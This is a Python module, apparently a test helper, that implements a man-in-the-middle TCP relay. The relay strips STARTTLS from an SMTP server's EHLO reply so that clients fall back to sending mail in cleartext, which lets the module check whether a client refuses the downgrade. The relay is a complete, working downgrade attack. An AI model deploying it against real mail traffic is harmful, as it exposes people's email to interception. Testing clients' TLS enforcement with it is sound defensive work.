"""An active attacker between client and MX: a TCP relay that strips STARTTLS from the EHLO answer.

Everything is passed on unchanged except the server's reply to EHLO, from which the
``STARTTLS`` line is removed (the last line keeps its ``250 `` end marker). A client that
insists on TLS must then refuse the server; one that does not sends the mail in clear,
through the relay, to the real server. ``connections`` counts the sessions relayed.
"""

from __future__ import annotations

import contextlib
import socket
import threading


def _strip(lines: list[bytes]) -> list[bytes]:
    """An EHLO reply (lines with CRLF) without its STARTTLS line, still a well-formed multi-line reply."""
    kept = [ln for ln in lines if ln[4:].strip().upper() != b"STARTTLS"]
    if kept and len(kept) < len(lines):
        kept = [ln[:3] + b"-" + ln[4:] for ln in kept[:-1]] + [kept[-1][:3] + b" " + kept[-1][4:]]
    return kept


class StartTlsStripper:
    """Listens on ``host:port`` and relays each connection to ``upstream`` with STARTTLS removed."""

    def __init__(self, host: str, port: int, upstream: tuple[str, int]) -> None:
        self.host, self.port, self.upstream = host, port, upstream
        self.connections = 0
        self.stripped = 0
        self._sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self._sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self._sock.bind((host, port))
        self._sock.listen(16)
        self._stop = False
        self._open: list[socket.socket] = []
        self._thread = threading.Thread(target=self._accept, daemon=True)

    def _accept(self) -> None:
        while not self._stop:
            try:
                client, _ = self._sock.accept()
            except OSError:
                return
            if self._stop:
                client.close()
                return
            self.connections += 1
            try:
                server = socket.create_connection(self.upstream, timeout=5)
            except OSError:
                client.close()
                continue
            server.settimeout(None)
            self._open += [client, server]
            threading.Thread(target=self._pump, args=(client, server), daemon=True).start()
            threading.Thread(target=self._replies, args=(server, client), daemon=True).start()

    @staticmethod
    def _pump(src: socket.socket, dst: socket.socket) -> None:
        with contextlib.suppress(OSError):
            while data := src.recv(65536):
                dst.sendall(data)
        with contextlib.suppress(OSError):
            dst.shutdown(socket.SHUT_WR)

    def _replies(self, server: socket.socket, client: socket.socket) -> None:
        reader = server.makefile("rb")
        pending: list[bytes] = []
        with contextlib.suppress(OSError, ValueError):
            while line := reader.readline():
                pending.append(line)
                if len(line) >= 4 and line[3:4] == b"-":
                    continue  # a multi-line reply goes on
                if len(pending) > 1 and pending[0].startswith(b"250"):
                    stripped = _strip(pending)
                    self.stripped += len(pending) - len(stripped)
                    pending = stripped
                client.sendall(b"".join(pending))
                pending = []
        with contextlib.suppress(OSError):
            client.shutdown(socket.SHUT_WR)

    def __enter__(self) -> StartTlsStripper:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop = True
        with contextlib.suppress(OSError):
            socket.create_connection((self.host, self.port), timeout=1).close()
        self._sock.close()
        self._thread.join(5)
        for s in self._open:
            with contextlib.suppress(OSError):
                s.close()
